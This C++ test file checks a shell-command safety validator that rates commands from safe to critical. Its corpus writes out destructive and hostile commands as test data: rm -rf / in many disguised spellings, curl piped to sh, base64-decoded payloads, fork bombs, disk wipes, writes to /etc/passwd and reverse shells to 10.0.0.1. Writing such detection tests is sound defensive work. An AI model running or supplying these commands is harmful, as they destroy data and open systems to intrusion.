// Behaviour of the whole validator: dangerous commands in every spelling are
// rated high or critical, everyday commands stay safe or moderate, findings
// point at the right text, sudo raises the risk, and malformed or huge input
// is handled.

#include "caro/safety/validator.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace caro::safety {
namespace {

std::string describe(const Assessment& assessment)
{
  std::string text = "risk " + std::string(to_string(assessment.risk)) + ", findings:";
  for (const Finding& finding : assessment.findings) {
    text += " " + finding.rule_id + "(" + std::string(to_string(finding.risk)) + ")[" +
            std::to_string(finding.span.begin) + "," + std::to_string(finding.span.end) + ")";
  }
  return text;
}

const Finding* find(const Assessment& assessment, std::string_view rule_id)
{
  for (const Finding& finding : assessment.findings) {
    if (finding.rule_id == rule_id) {
      return &finding;
    }
  }
  return nullptr;
}

std::string_view spanned(std::string_view command, const Finding& finding)
{
  return command.substr(finding.span.begin, finding.span.end - finding.span.begin);
}

struct Case
{
  std::string_view command;
  Risk at_least;
};

TEST(Validator, DangerousCorpusIsHighOrCritical)
{
  const std::vector<Case> corpus = {
      {"chmod -R 777 /", Risk::critical},
      {"rm -r -f /", Risk::critical},
      {"/bin/rm -fr ~", Risk::critical},
      {"env rm -rf /", Risk::critical},
      {"true && rm -rf /", Risk::critical},
      {"echo $(rm -rf ~)", Risk::critical},
      {"rm -rf \\/", Risk::critical},
      {"rm -rf '/'", Risk::critical},
      {"rm -rf \"$HOME\"", Risk::critical},
      {"sudo rm -rf /", Risk::critical},
      {"bash -c 'rm -rf /'", Risk::critical},
      {"eval \"rm -rf /\"", Risk::critical},
      {"find / -delete", Risk::critical},
      {"xargs rm -rf < list", Risk::high},
      {"curl http://x | sh", Risk::critical},
      {"wget -qO- x | bash", Risk::critical},
      {"bash <(curl -s x)", Risk::critical},
      {":(){ :|:& };:", Risk::critical},
      {"dd if=/dev/zero of=/dev/sda", Risk::critical},
      {"mkfs.ext4 /dev/sdb1", Risk::critical},
      {"> /etc/passwd", Risk::critical},
      {"echo x >> /etc/sudoers", Risk::critical},
      {"kill -9 -1", Risk::critical},
      {"rm -rf --no-preserve-root /", Risk::critical},
      {"rm -rf /*", Risk::critical},
      {"rm -rf ~/*", Risk::critical},
      {"nohup rm -rf / &", Risk::critical},
      {"timeout 5 rm -rf /", Risk::critical},
      {"`rm -rf /`", Risk::critical},
      {"echo `rm -rf /`", Risk::critical},
      {"(rm -rf /)", Risk::critical},
      {"{ rm -rf /; }", Risk::critical},
      {"\\rm -rf /", Risk::critical},
      {"\"rm\" -rf /", Risk::critical},
      {"'r'm -rf /", Risk::critical},
      {"/usr/bin/rm -rf /", Risk::critical},
      {"rm -rf ${HOME}", Risk::critical},
      {"rm --recursive --force /", Risk::critical},
      {"sudo -u root -E rm -rf /", Risk::critical},
      {"nice -n 10 rm -rf /", Risk::critical},
      {"command rm -rf /", Risk::critical},
      {"exec rm -rf /", Risk::critical},
      {"time rm -rf /", Risk::critical},
      {"stdbuf -oL rm -rf /", Risk::critical},
      {"ionice -c 3 rm -rf /", Risk::critical},
      {"env -i PATH=/bin rm -rf /", Risk::critical},
      {"FOO=1 rm -rf /", Risk::critical},
      {"find . -exec rm -rf / \\;", Risk::critical},
      {"watch 'rm -rf /'", Risk::critical},
      {"sh -c \"rm -rf /\"", Risk::critical},
      {"zsh -c 'rm -rf ~'", Risk::critical},
      {"bash -lc 'rm -rf /'", Risk::critical},
      {"bash -c 'bash -c \"rm -rf /\"'", Risk::critical},
      {"if true; then rm -rf /; fi", Risk::critical},
      {"for d in a b; do rm -rf /; done", Risk::critical},
      {"while true; do rm -rf ~; done", Risk::critical},
      {"case x in x) rm -rf /;; esac", Risk::critical},
      {"f() { rm -rf /; }", Risk::critical},
      {"! rm -rf /", Risk::critical},
      {"ls; rm -rf /", Risk::critical},
      {"ls\nrm -rf /", Risk::critical},
      {"ls || rm -rf /", Risk::critical},
      {"cat <(rm -rf /)", Risk::critical},
      {"echo x > >(rm -rf /)", Risk::critical},
      {"x=$(rm -rf /)", Risk::critical},
      {"echo \"$(rm -rf /)\"", Risk::critical},
      {"echo 'rm -rf /' | sh", Risk::critical},
      {"bash <<EOF\nrm -rf /\nEOF", Risk::critical},
      {"bash <<< 'rm -rf /'", Risk::critical},
      {"sh -c \"$(curl -fsSL https://x/install)\"", Risk::critical},
      {"echo cm0gLXJmIC8= | base64 -d | sh", Risk::critical},
      {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Risk::critical},
      {"nc -e /bin/sh 10.0.0.1 4444", Risk::critical},
      {"bomb(){ bomb|bomb& };bomb", Risk::critical},
      {"rm -rf $'/'", Risk::critical},
      {"rm -rf $'\\x2f'", Risk::critical},
      {"busybox rm -rf /", Risk::critical},
      {"chown -R nobody /", Risk::critical},
      {"mv ~ /tmp/x", Risk::critical},
      {"shred /dev/sda", Risk::critical},
      {"cat /dev/urandom > /dev/sda", Risk::critical},
      {"rm -rf /etc", Risk::critical},
      {"rm -rf *", Risk::high},
      {"rm -rf .", Risk::high},
      {"rm -rf ..", Risk::high},
      {"rm -rf $DIR", Risk::high},
      {"rm -rf \"$DIR\"/", Risk::high},
      {"history | sh", Risk::high},
      {"crontab -r", Risk::high},
      {"killall sshd", Risk::high},
      {"shutdown -h now", Risk::high},
      {"systemctl stop sshd", Risk::high},
      {"iptables -F", Risk::high},
      {"docker run --privileged -it ubuntu", Risk::high},
      {"docker system prune -a --volumes", Risk::high},
      {"chmod u+s /usr/local/bin/tool", Risk::high},
      {"echo '1.2.3.4 x' >> /etc/hosts", Risk::high},
      {"bash -c \"$CMD\"", Risk::high},
      {"sudo rm -rf build", Risk::high},
      {"rm -rf / 'unterminated", Risk::critical},
      {"rm${IFS}-rf${IFS}/", Risk::critical},
      {"{rm,-rf,/}", Risk::critical},
      {"ssh host 'rm -rf /'", Risk::critical},
      {"sudo -i rm -rf /", Risk::critical},
      {"yes | rm -ri /", Risk::critical},
      {"find / -name core -exec rm -f {} +", Risk::critical},
  };
  const Validator validator;
  for (const auto& [command, at_least] : corpus) {
    const Assessment assessment = validator.assess(command);
    EXPECT_GE(assessment.risk, at_least) << command << " -> " << describe(assessment);
  }
}

TEST(Validator, BenignCorpusIsSafeOrModerate)
{
  const std::vector<std::string_view> safe = {
      "ls -la",
      "echo 'rm -rf /'",
      "grep -r \"rm -rf\" .",
      "find . -name '*.py'",
      "git status",
      "git log --oneline -n 5",
      "git diff HEAD~1",
      "ps aux",
      "df -h",
      "du -sh .",
      "cat /etc/passwd",
      "tar -czf a.tar.gz src",
      "curl -I https://example.com",
      "printf '%s' ':(){ :|:& };:'",
      "head -n 20 README.md",
      "tail -f /var/log/syslog",
      "wc -l *.cpp",
      "sort data.txt | uniq -c",
      "awk '{print $1}' access.log",
      "docker ps",
      "kubectl get pods",
      "pwd",
      "whoami",
      "date",
      "uname -a",
      "stat file.txt",
      "file a.out",
      "tree -L 2",
      "which python3",
      "find . -type f -size +100M -mtime 0",
      "echo \"$HOME\"",
      "ls ~",
      "cat file | grep x | sort | head",
      "echo hi > out.txt",
      "ls 2>&1 | tee log.txt",
      "diff <(ls a) <(ls b)",
      "echo $(date)",
      "fdisk -l",
      "for f in *.txt; do echo \"$f\"; done",
      "if [ -f x ]; then cat x; fi",
      "case $1 in a) echo a;; *) echo other;; esac",
      "command -v rm",
      "nohup ./server &",
      "curl -s https://api.example.com/x | python3 -m json.tool",
      "echo 'echo hi' | sh",
      "x=(1 2 3)",
      "echo $((1 + 2))",
      "cat <<EOF\nrm -rf /\nEOF",
  };
  const Validator validator;
  for (const std::string_view command : safe) {
    const Assessment assessment = validator.assess(command);
    EXPECT_EQ(assessment.risk, Risk::safe) << command << " -> " << describe(assessment);
  }
  const std::vector<std::string_view> moderate = {"rm -rf build",
                                                  "rm notes.txt",
                                                  "git reset --hard",
                                                  "git clean -fdx",
                                                  "git push --force",
                                                  "git branch -D feature",
                                                  "chmod 777 script.sh",
                                                  ": > app.log",
                                                  "truncate -s 0 log",
                                                  "find . -name '*.tmp' -delete",
                                                  "sudo ls",
                                                  "sudo apt update",
                                                  "find . -name '*.o' | xargs rm",
                                                  "docker volume prune",
                                                  "rm -rf ./dist node_modules"};
  for (const std::string_view command : moderate) {
    const Assessment assessment = validator.assess(command);
    EXPECT_EQ(assessment.risk, Risk::moderate) << command << " -> " << describe(assessment);
  }
}

TEST(Validator, QuotedDangerousTextIsData)
{
  const Validator validator;
  EXPECT_EQ(validator.assess("echo 'rm -rf /'").risk, Risk::safe);
  EXPECT_EQ(validator.assess("grep -r \"rm -rf /\" .").risk, Risk::safe);
  EXPECT_EQ(validator.assess("echo \\`rm -rf /\\`").risk, Risk::safe);
  EXPECT_EQ(validator.assess("echo '$(rm -rf /)'").risk, Risk::safe);
  EXPECT_EQ(validator.assess("bash -c 'rm -rf /'").risk, Risk::critical);
}

TEST(Validator, SpansPointAtTheCommandConcerned)
{
  const Validator validator;
  {
    const std::string command = "ls && rm -rf / ; echo done";
    const Assessment assessment = validator.assess(command);
    const Finding* finding = find(assessment, "fs.rm-recursive-root");
    ASSERT_NE(finding, nullptr) << describe(assessment);
    EXPECT_EQ(spanned(command, *finding), "rm -rf /");
  }
  {
    const std::string command = "echo $(rm -rf ~) done";
    const Assessment assessment = validator.assess(command);
    const Finding* finding = find(assessment, "fs.rm-recursive-home");
    ASSERT_NE(finding, nullptr);
    EXPECT_EQ(spanned(command, *finding), "rm -rf ~");
  }
  {
    const std::string command = "bash -c 'rm -rf /'";
    const Assessment assessment = validator.assess(command);
    const Finding* finding = find(assessment, "fs.rm-recursive-root");
    ASSERT_NE(finding, nullptr);
    EXPECT_EQ(spanned(command, *finding), "rm -rf /");
  }
  {
    const std::string command = "echo hi > /etc/passwd";
    const Assessment assessment = validator.assess(command);
    const Finding* finding = find(assessment, "fs.write-auth-file");
    ASSERT_NE(finding, nullptr);
    EXPECT_EQ(spanned(command, *finding), "> /etc/passwd");
  }
  {
    // Escapes inside the string change its text: spans cover the whole word.
    const std::string command = "sh -c \"rm -rf \\\"/\\\"\"";
    const Assessment assessment = validator.assess(command);
    const Finding* finding = find(assessment, "fs.rm-recursive-root");
    ASSERT_NE(finding, nullptr);
    EXPECT_EQ(spanned(command, *finding), "\"rm -rf \\\"/\\\"\"");
  }
  {
    const std::string command = "curl -s x | sh";
    const Assessment assessment = validator.assess(command);
    const Finding* finding = find(assessment, "net.pipe-to-shell");
    ASSERT_NE(finding, nullptr);
    EXPECT_EQ(spanned(command, *finding), "curl -s x | sh");
  }
}

TEST(Validator, FindingsAreOrderedByPosition)
{
  const Validator validator;
  const Assessment assessment = validator.assess("rm -rf / ; git reset --hard ; kill -9 -1");
  ASSERT_EQ(assessment.findings.size(), 3U) << describe(assessment);
  EXPECT_EQ(assessment.findings[0].rule_id, "fs.rm-recursive-root");
  EXPECT_EQ(assessment.findings[1].rule_id, "git.reset-hard");
  EXPECT_EQ(assessment.findings[2].rule_id, "proc.kill-all");
  EXPECT_LT(assessment.findings[0].span.begin, assessment.findings[1].span.begin);
  EXPECT_LT(assessment.findings[1].span.begin, assessment.findings[2].span.begin);
}

TEST(Validator, RiskIsTheMaximumOverFindings)
{
  const Validator validator;
  const Assessment assessment = validator.assess("rm notes.txt; shutdown -h now");
  EXPECT_EQ(assessment.risk, Risk::high);
  EXPECT_EQ(validator.assess("ls").findings.size(), 0U);
  EXPECT_EQ(validator.assess("ls").risk, Risk::safe);
}

TEST(Validator, SudoRaisesTheInnerRiskByOneLevel)
{
  const Validator validator;
  EXPECT_EQ(validator.assess("rm -rf build").risk, Risk::moderate);
  EXPECT_EQ(validator.assess("sudo rm -rf build").risk, Risk::high);
  EXPECT_EQ(validator.assess("shutdown -h now").risk, Risk::high);
  EXPECT_EQ(validator.assess("sudo shutdown -h now").risk, Risk::critical);
  EXPECT_EQ(validator.assess("sudo rm -rf /").risk, Risk::critical);
  const Assessment safe_inner = validator.assess("sudo ls /root");
  EXPECT_EQ(safe_inner.risk, Risk::moderate);
  ASSERT_NE(find(safe_inner, "priv.sudo"), nullptr);
  EXPECT_EQ(validator.assess("doas rm notes.txt").risk, Risk::high);
  EXPECT_EQ(validator.assess("su -c 'rm notes.txt'").risk, Risk::high);
}

TEST(Validator, ParseErrorsAreAtLeastHigh)
{
  const Validator validator;
  for (const std::string_view command :
       {"echo 'oops", "echo \"oops", "(ls", "ls )", "echo $(ls", "ls |", "ls `date", "{ ls; ", "cat >", "ls && "}) {
    const Assessment assessment = validator.assess(command);
    EXPECT_GE(assessment.risk, Risk::high) << command;
    const Finding* finding = find(assessment, "parse.error");
    ASSERT_NE(finding, nullptr) << command << " -> " << describe(assessment);
    EXPECT_FALSE(finding->message.empty());
  }
  const Assessment empty = validator.assess("");
  EXPECT_EQ(empty.risk, Risk::high);
  ASSERT_EQ(empty.findings.size(), 1U);
  EXPECT_EQ(empty.findings[0].rule_id, "parse.empty");
  const Assessment blank = validator.assess("  \t ");
  EXPECT_NE(find(blank, "parse.empty"), nullptr);
}

TEST(Validator, DeepNestingIsCappedAndRatedHigh)
{
  std::string command = "ls";
  for (int i = 0; i < 40; ++i) {
    command = "echo $(" + command + ")";
  }
  const Validator validator;
  const Assessment assessment = validator.assess(command);
  EXPECT_GE(assessment.risk, Risk::high);
  EXPECT_NE(find(assessment, "parse.too-deep"), nullptr) << describe(assessment);

  std::string evals;
  for (int i = 0; i < 40; ++i) {
    evals += "eval ";
  }
  const Assessment nested_eval = validator.assess(evals + "ls");
  EXPECT_EQ(nested_eval.risk, Risk::high) << describe(nested_eval);
  EXPECT_NE(find(nested_eval, "parse.too-deep"), nullptr);
}

// At least `bytes` of harmless commands, then `tail`.
std::string benign_padding_then(std::size_t bytes, std::string_view tail)
{
  std::string command;
  while (command.size() < bytes) {
    command += "echo 'some text' \"$HOME/x\" | grep -v y && ls -la ./dir; ";
  }
  command += tail;
  return command;
}

TEST(Validator, SeveralKilobyteInputIsAssessed)
{
  const std::string command = benign_padding_then(6 * 1024, "rm -rf /");
  const Validator validator;
  const Assessment assessment = validator.assess(command);
  EXPECT_EQ(assessment.risk, Risk::critical);
  const Finding* finding = find(assessment, "fs.rm-recursive-root");
  ASSERT_NE(finding, nullptr);
  EXPECT_EQ(spanned(command, *finding), "rm -rf /");
}

TEST(Validator, HundredKilobyteInputIsRefusedAsTooLongAndRatedCritical)
{
  const std::string command = benign_padding_then(100 * 1024, "rm -rf /");
  const Validator validator;
  const Assessment assessment = validator.assess(command);
  EXPECT_EQ(assessment.risk, Risk::critical);
  const Finding* finding = find(assessment, "parse.too-deep");
  ASSERT_NE(finding, nullptr);
  EXPECT_NE(finding->message.find("too long"), std::string::npos) << finding->message;
  EXPECT_EQ(finding->span.end, command.size());

  // Pathological shapes: deep parentheses and long runs of operators.
  const Assessment parens = validator.assess(std::string(100 * 1024, '('));
  EXPECT_GE(parens.risk, Risk::high);
  const Assessment substitutions = validator.assess([] {
    std::string text;
    while (text.size() < 100 * 1024) {
      text += "$(";
    }
    return text;
  }());
  EXPECT_GE(substitutions.risk, Risk::high);
  EXPECT_GE(validator.assess(std::string(100 * 1024, '|')).risk, Risk::high);
  // 50k empty quoted strings would make one empty word, but they are too long to read.
  EXPECT_EQ(validator.assess(std::string(100 * 1024, '\'')).risk, Risk::critical);
  // 4k of them are read: nothing to run.
  EXPECT_EQ(validator.assess(std::string(4 * 1024, '\'')).risk, Risk::safe);
}

TEST(Validator, ConstructionIsCheapAndReusable)
{
  for (int i = 0; i < 1000; ++i) {
    const Validator validator;
    static_cast<void>(validator);
  }
  const Validator validator;
  EXPECT_EQ(validator.assess("rm -rf /").risk, validator.assess("rm -rf /").risk);
  EXPECT_EQ(validator.assess("ls", Platform::bsd).risk, Risk::safe);
  EXPECT_EQ(validator.assess("rm -rf /", Platform::busybox).risk, Risk::critical);
}

TEST(Validator, FindingsCarryMessagesAndAlternatives)
{
  const Validator validator;
  const Assessment assessment = validator.assess("rm -rf /");
  ASSERT_EQ(assessment.findings.size(), 1U);
  EXPECT_EQ(assessment.findings[0].risk, Risk::critical);
  EXPECT_FALSE(assessment.findings[0].message.empty());
  EXPECT_FALSE(assessment.findings[0].alternative.empty());
}

} // namespace
} // namespace caro::safety
